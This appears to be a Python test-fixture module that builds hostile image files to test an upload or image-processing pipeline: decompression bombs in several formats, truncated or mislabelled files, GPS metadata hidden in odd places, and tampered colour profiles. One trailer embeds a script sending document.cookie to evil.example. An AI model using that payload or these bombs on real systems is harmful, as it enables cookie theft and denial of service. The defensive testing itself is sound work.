"""Hostile and awkward image files, made in the test run (nothing committed)."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import numpy as np
from PIL import Image

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def jpeg(image: Image.Image, **save) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90, **save)
    return buffer.getvalue()


def png(image: Image.Image) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def gradient(width: int = 320, height: int = 240) -> Image.Image:
    x = np.linspace(0, 255, width, dtype=np.uint8)[None, :].repeat(height, 0)
    y = np.linspace(0, 255, height, dtype=np.uint8)[:, None].repeat(width, 1)
    return Image.fromarray(np.stack([x, y, 255 - x], axis=-1), "RGB")


def noise(width: int = 64, height: int = 48, seed: int = 0) -> Image.Image:
    """Random pixels: an image that does not compress to a few bytes."""
    return Image.fromarray(np.random.default_rng(seed).integers(0, 256, (height, width, 3), dtype=np.uint8), "RGB")


def exif_rotated_with_gps() -> bytes:
    """A 300x200 JPEG whose EXIF says 'rotate 90° clockwise' and that carries GPS and camera tags."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x010F] = "SpyCam Inc."  # Make
    exif[0x0110] = "Model X"  # Model
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)})
    return jpeg(gradient(300, 200), exif=exif.tobytes())


def upright_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Inc."
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (52.0, 31.0, 12.0)})
    return jpeg(gradient(300, 200), exif=exif.tobytes(), comment=b"private comment")


def cmyk_jpeg() -> bytes:
    return jpeg(gradient().convert("CMYK"))


def png16() -> bytes:
    ramp = np.linspace(0, 65535, 200 * 100, dtype=np.uint16).reshape(100, 200)
    return png(Image.fromarray(ramp))  # mode I;16


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (64, 48), color) for color in ((200, 0, 0), (0, 200, 0), (0, 0, 200))]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return buffer.getvalue()


def palette_with_transparency() -> bytes:
    image = Image.new("RGBA", (80, 60), (255, 0, 0, 0))
    image.paste((0, 0, 255, 255), (20, 20, 60, 40))
    return png(image.convert("P"))


def png_bomb(side: int = 100_000) -> bytes:
    """A PNG whose header claims side x side pixels; the body is a few kB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    body = zlib.compress(bytes(side + 1) * 16, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def write_hostile_files(folder: Path, photo: bytes) -> dict[str, bytes]:
    """Write each hostile file into ``folder``; returns name -> bytes."""
    files = {
        "truncated.jpg": photo[: len(photo) * 6 // 10],
        "page.jpg": b"<!DOCTYPE html><html><body>Not found</body></html>",
        "vector.svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
        "empty.jpg": b"",
        "one_pixel.png": png(Image.new("RGB", (1, 1), (9, 9, 9))),
        "sliver.png": png(Image.new("L", (60_000, 1), 128)),
        "bomb.png": png_bomb(),
        "cmyk.jpg": cmyk_jpeg(),
        "sixteen_bit.png": png16(),
        "animated.gif": animated_gif(),
        "rotated_gps.jpg": exif_rotated_with_gps(),
        "upright_gps.jpg": upright_with_gps(),
        "palette_alpha.png": palette_with_transparency(),
        "garbage.jpg": bytes(range(256)) * 4,
    }
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return files


# --- metadata hidden where a header walk does not look --------------------------------------
SECRET = b"GPS 52.5200N 13.4050E secret-person"


def jpeg_segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(body) + 2).to_bytes(2, "big") + body


def gps_exif() -> bytes:
    """An EXIF block with GPS and camera tags, whose maker field carries ``SECRET``."""
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)})
    return exif.tobytes()


def exif_segment() -> bytes:
    return jpeg_segment(0xE1, b"Exif\x00\x00" + gps_exif())


def progressive_with_metadata_between_scans(marker: int = 0xE1) -> bytes:
    """A progressive JPEG with an APPn (EXIF with GPS) or COM segment after its first scan."""
    data = jpeg(gradient(), progressive=True)
    second_scan = data.index(b"\xff\xda", data.index(b"\xff\xda") + 2)
    hidden = exif_segment() if marker == 0xE1 else jpeg_segment(marker, b"XMP\x00" + SECRET)
    return data[:second_scan] + hidden + data[second_scan:]


def with_trailer(data: bytes, kind: str) -> bytes:
    """``data`` followed by a second JPEG with GPS EXIF, an HTML/script page, or raw bytes."""
    trailers = {
        "jpeg": jpeg(gradient(40, 30), exif=gps_exif()),
        "html": b"<html><script>fetch('//evil.example/?' + document.cookie)</script>" + SECRET + b"</html>",
        "zip": b"PK\x03\x04" + SECRET + bytes(64),
    }
    return data + trailers[kind]


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_with_chunk(kind: bytes, where: str = "before_idat", image: Image.Image | None = None) -> bytes:
    """An RGB PNG with an extra chunk carrying ``SECRET`` before IDAT, after it, or after IEND."""
    data = png(image or gradient(64, 48))
    extra = png_chunk(kind, SECRET)
    if where == "after_iend":
        return data + extra
    at = data.index(b"IDAT") - 4 if where == "before_idat" else data.index(b"IEND") - 4
    return data[:at] + extra + data[at:]


def webp_lossless(image: Image.Image | None = None, **save) -> bytes:
    buffer = io.BytesIO()
    (image or gradient(64, 48)).save(buffer, "WEBP", lossless=True, **save)
    return buffer.getvalue()


def riff(chunks: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(chunks) + 4) + b"WEBP" + chunks


def webp_chunk(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) & 1)


def webp_with(extra: bytes, trailer: bytes = b"") -> bytes:
    """A lossless WebP with ``extra`` chunks after its bitstream, then ``trailer`` past its end."""
    data = webp_lossless(noise())
    return riff(data[12:] + extra) + trailer


def icc_segments(profile: bytes) -> bytes:
    """``profile`` as APP2 ICC_PROFILE segments (at most 65519 bytes each)."""
    parts = [profile[i : i + 65_000] for i in range(0, len(profile), 65_000)] or [b""]
    return b"".join(
        jpeg_segment(0xE2, b"ICC_PROFILE\x00" + bytes([n + 1, len(parts)]) + part) for n, part in enumerate(parts)
    )


def jpeg_with_icc(profile: bytes, image: Image.Image | None = None) -> bytes:
    data = jpeg(image or gradient())
    return data[:2] + icc_segments(profile) + data[2:]


def srgb_profile() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def swapped_primaries_profile() -> bytes:
    """sRGB's profile with its red and blue primaries swapped: applying it turns red into blue."""
    profile = bytearray(srgb_profile())
    count = int.from_bytes(profile[128:132], "big")
    entries = {bytes(profile[132 + 12 * i : 136 + 12 * i]): 132 + 12 * i for i in range(count)}
    red, blue = entries[b"rXYZ"], entries[b"bXYZ"]
    red_place, blue_place = profile[red + 4 : red + 12], profile[blue + 4 : blue + 12]
    profile[red + 4 : red + 12], profile[blue + 4 : blue + 12] = blue_place, red_place
    return bytes(profile)


def renamed_srgb_profile() -> bytes:
    """sRGB's profile under another description."""
    profile = srgb_profile()
    name = "sRGB".encode("utf-16-be")
    assert name in profile
    return profile.replace(name, "Wide".encode("utf-16-be"))


# --- decompression bombs whose real size is not in the outer header ---------------------------
def png_of_zeros(width: int, height: int) -> bytes:
    """A grey PNG of width x height black pixels, compressed row by row (a bomb when large)."""
    row = bytes(width + 1)
    compressor = zlib.compressobj(6)
    step = max(1, (1 << 20) // len(row))
    body = b"".join(compressor.compress(row * min(step, height - y)) for y in range(0, height, step))
    body += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def bmp_info(width: int, height: int, bits: int = 32) -> bytes:
    """An ICO entry's BMP: its info header (height doubled for the AND mask) and no pixel data."""
    return struct.pack("<IiiHHIIiiII", 40, width, height * 2, 1, bits, 0, 0, 0, 0, 0, 0) + bytes(64)


def ico(entries: list[tuple[int, int, bytes]]) -> bytes:
    """An ICO whose directory declares (width, height) for each payload (a PNG or a BMP)."""
    table, body = b"", b""
    offset = 6 + 16 * len(entries)
    for width, height, payload in entries:
        table += struct.pack("<BBBBHHII", width % 256, height % 256, 0, 0, 1, 32, len(payload), offset + len(body))
        body += payload
    return struct.pack("<HHH", 0, 1, len(entries)) + table + body


def gif_frame_beyond_screen(screen: int, width: int, height: int) -> bytes:
    """A GIF whose logical screen is screen x screen and whose only frame is width x height."""
    buffer = io.BytesIO()
    Image.new("P", (width, height), 0).save(buffer, "GIF")
    data = bytearray(buffer.getvalue())
    data[6:10] = struct.pack("<HH", screen, screen)
    return bytes(data)


def tiff(pages: list[tuple[int, int, int]]) -> bytes:
    """A grey deflate TIFF, one IFD per (width, height, tile side); tile side 0 means one strip.
    Each tile or strip is a deflated run of zeros of the size the tags promise."""
    out = bytearray(b"II*\x00\x00\x00\x00\x00")
    previous_next = 4  # where the pointer to the next IFD goes
    for width, height, tile in pages:
        body = zlib.compress(bytes((tile * tile) if tile else width * height), 6)
        data_at = len(out)
        out += body + b"\x00" * (len(body) & 1)
        tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 8), (262, 3, 1), (277, 3, 1), (284, 3, 1)]
        if tile:
            tags += [(322, 4, tile), (323, 4, tile), (324, 4, data_at), (325, 4, len(body))]
        else:
            tags += [(273, 4, data_at), (278, 4, height), (279, 4, len(body))]
        ifd_at = len(out)
        out[previous_next : previous_next + 4] = struct.pack("<I", ifd_at)
        out += struct.pack("<H", len(tags))
        for tag, kind, value in sorted(tags):
            packed = struct.pack("<I", value) if kind == 4 else struct.pack("<HH", value, 0)
            out += struct.pack("<HHI", tag, kind, 1) + packed
        previous_next = len(out)
        out += b"\x00\x00\x00\x00"
    return bytes(out)


def webp_canvas_smaller_than_bitstream(canvas: int, width: int, height: int) -> bytes:
    vp8l = webp_lossless(Image.new("RGB", (width, height)))[12:]
    side = (canvas - 1).to_bytes(3, "little")
    return riff(webp_chunk(b"VP8X", bytes(4) + side + side) + vp8l)


def icns_with_png(width: int, height: int) -> bytes:
    """An Apple icon whose ic10 entry (declared 1024x1024) holds a width x height PNG."""
    payload = png_of_zeros(width, height)
    entry = b"ic10" + struct.pack(">I", 8 + len(payload)) + payload
    return b"icns" + struct.pack(">I", 8 + len(entry)) + entry


def apng_frame_beyond_image(width: int, height: int) -> bytes:
    """A two-frame 16x16 APNG whose first frame control chunk claims width x height."""
    frames = [Image.new("RGB", (16, 16), colour) for colour in ((200, 0, 0), (0, 0, 200))]
    buffer = io.BytesIO()
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:])
    data = buffer.getvalue()
    at = data.index(b"fcTL") - 4
    length = int.from_bytes(data[at : at + 4], "big")
    body = bytearray(data[at + 8 : at + 8 + length])
    body[4:12] = struct.pack(">II", width, height)
    return data[:at] + png_chunk(b"fcTL", bytes(body)) + data[at + 12 + length :]


def avif(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (10, 20, 30)).save(buffer, "AVIF", quality=50)
    return buffer.getvalue()
